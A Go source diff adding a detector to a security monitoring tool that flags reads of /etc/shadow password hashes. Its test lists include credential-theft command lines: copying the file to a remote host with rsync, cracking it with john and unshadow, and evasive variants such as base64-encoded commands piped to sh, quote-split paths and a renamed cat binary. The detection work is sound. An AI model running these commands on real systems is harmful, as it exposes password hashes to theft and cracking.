@@ -1,0 +1,55 @@
+package detect
+
+import (
+	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
+	"github.com/code-on-incus/coi/cmd/coi-watch/internal/event"
+	"github.com/code-on-incus/coi/cmd/coi-watch/internal/paths"
+	"github.com/code-on-incus/coi/cmd/coi-watch/internal/program"
+	"github.com/code-on-incus/coi/cmd/coi-watch/internal/track"
+	"github.com/code-on-incus/coi/pkg/coi"
+)
+
+var credShadow = Detector{
+	ID: "cred.shadow", Level: coi.High, Wants: files,
+	Title: "password hashes read",
+	Why:   "only programs that check or set passwords have a reason to open the shadow file",
+	Detect: either(shadow, func(ev event.Event, v track.View) []Finding {
+		if !readEvent(ev) || !paths.Any(v.PathClasses(ev.Path), paths.Shadow) || inWorkspace(v, ev.Path) {
+			return nil
+		}
+		if p := v.Proc(); p.Class == program.Account || p.Class == program.Package || oneOf(p.Name, "sshd", "cron", "systemd") {
+			return nil
+		}
+		return one(Finding{Level: coi.High, Title: "password hashes read by " + v.Proc().Name, Path: ev.Path, Op: "open", PID: ev.PID})
+	}),
+	Fire: append(lines(coi.High, "cat /etc/shadow", "sudo cat /etc/shadow", "cp /etc/shadow /tmp/s", "sudo tar czf x.tgz /etc/shadow", "base64 < /etc/shadow", "unshadow /etc/passwd /etc/shadow > h", "dd if=/etc/shadow", "head -1 /etc/gshadow",
+		"awk -F: '{print $2}' /etc/shadow", "python3 -c \"print(open('/etc/shadow').read())\"", "cd /etc && sudo less shadow", "cat /etc/sha*w", "vi /etc/shadow", "while read l; do echo $l; done < /etc/shadow", "/tmp/zz /etc/shadow", "c'a't /e\"tc\"/shadow",
+		"X=/etc/shadow; cat $X", "xxd /etc/shadow", "sudo rsync /etc/shadow h:/x", "curl file:///etc/shadow", "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh", "perl -ne print /etc/shadow", "getent shadow", "john /etc/shadow", "docker exec c cat /etc/shadow", "grep root /etc/shadow", "busybox cat /etc/shadow", "/lib64/ld-linux-x86-64.so.2 /bin/cat /etc/shadow", "/proc/self/root/bin/cat /etc/shadow", "cp /bin/cat /tmp/k; /tmp/k /etc/shadow", "printf '#!/bin/sh\\ncat /etc/shadow\\n' > /tmp/a.sh; sh /tmp/a.sh"),
+		events(event.Event{Type: event.Open, PID: 3, Exe: "/usr/bin/cat", Path: "/etc/shadow"})...),
+	Quiet: append(lines("", "ls -l /etc/shadow", "sudo passwd x", "useradd x", "grep -r shadow src/", "stat /etc/shadow", "echo /etc/shadow", "git grep /etc/shadow", "cat ./etc/shadow.go", "rg 'cat /etc/shadow' ."),
+		events(event.Event{Type: event.Open, PID: 3, Exe: "/usr/bin/sudo", Path: "/etc/shadow"})...),
+}
+
+func shadow(s *command.Simple, v track.View) *Finding {
+	if s.Name == "getent" && s.Arg("shadow", "gshadow") {
+		return say(s, coi.High, "password hashes listed")
+	}
+	if s.Class() == program.Account || packaged(s, v) || oneOf(s.Name, "echo", "printf", "test", "[", "git", "man") && len(s.Redirs) == 0 {
+		return nil
+	}
+	for _, a := range s.Accesses() {
+		if a.Op == command.Link && paths.Any(paths.Of(a.Path2, false), paths.Shadow, paths.Keys) && !inWorkspace(v, a.Path2) {
+			return say(s, coi.High, "link to a secret file").at(a.Path2, a.Op)
+		}
+		if !paths.Any(classes(v, a), paths.Shadow) {
+			continue
+		}
+		if taken(a) || a.Op == command.Use && s.Class() != program.Account {
+			return say(s, coi.High, "password hashes read by "+s.Name).at(a.Path, a.Op)
+		}
+	}
+	if hasAny(s.Line(), "file:///etc/shadow") && s.Class() == program.Downloader {
+		return say(s, coi.High, "password hashes read by "+s.Name).at("/etc/shadow", command.Read)
+	}
+	return nil
+}
